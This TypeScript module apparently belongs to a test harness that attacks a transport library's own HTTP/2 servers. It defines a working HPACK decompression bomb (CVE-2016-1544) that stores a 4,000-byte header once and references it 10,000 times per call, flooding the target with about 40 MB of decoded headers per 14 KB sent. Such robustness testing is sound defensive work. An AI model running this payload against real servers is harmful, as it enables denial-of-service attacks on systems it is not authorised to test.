import {
  frame,
  frameFlags,
  hpack,
  types,
} from "../../packages/transport-connect/src/raw-http2.fixture.ts";
import type { Attack } from "../attack.ts";
import { flood } from "../flood.ts";
import { callTo } from "../requests.ts";

const { endHeaders, endStream } = frameFlags;
const calls = 20;
const call = hpack(callTo("GetUser"));
// Literal with incremental indexing: RFC 7541, section 6.2.1. Some 4,000 bytes of the table's 4,096.
const [, ...literal] = hpack([["x-large", "v".repeat(4_000)]]);
const remembered = Buffer.from([0x40, ...literal]);
/** The newest entry of the dynamic table, again and again: one byte for 4,000. */
const repeated = Buffer.alloc(10_000, 0x80 | 62);

/** A large header said once, and then in one byte. Source: CVE-2016-1544. */
export const hpackBomb: Attack = {
  name: "hpack-bomb",
  what: "a header of 4,000 bytes 10,000 times in a call, in one byte each: 40 MB out of 14 KB",
  transports: ["connect", "grpc"],
  run: (target) =>
    flood(target, {
      unit: "calls",
      each: calls,
      next: (n) =>
        Buffer.concat(
          Array.from({ length: calls }, (_, i) => {
            const first = n === 0 && i === 0 ? remembered : Buffer.alloc(0);
            const headers = Buffer.concat([call, first, repeated]);
            return frame(types.headers, endHeaders | endStream, (n * calls + i) * 2 + 1, headers);
          }),
        ),
    }),
};
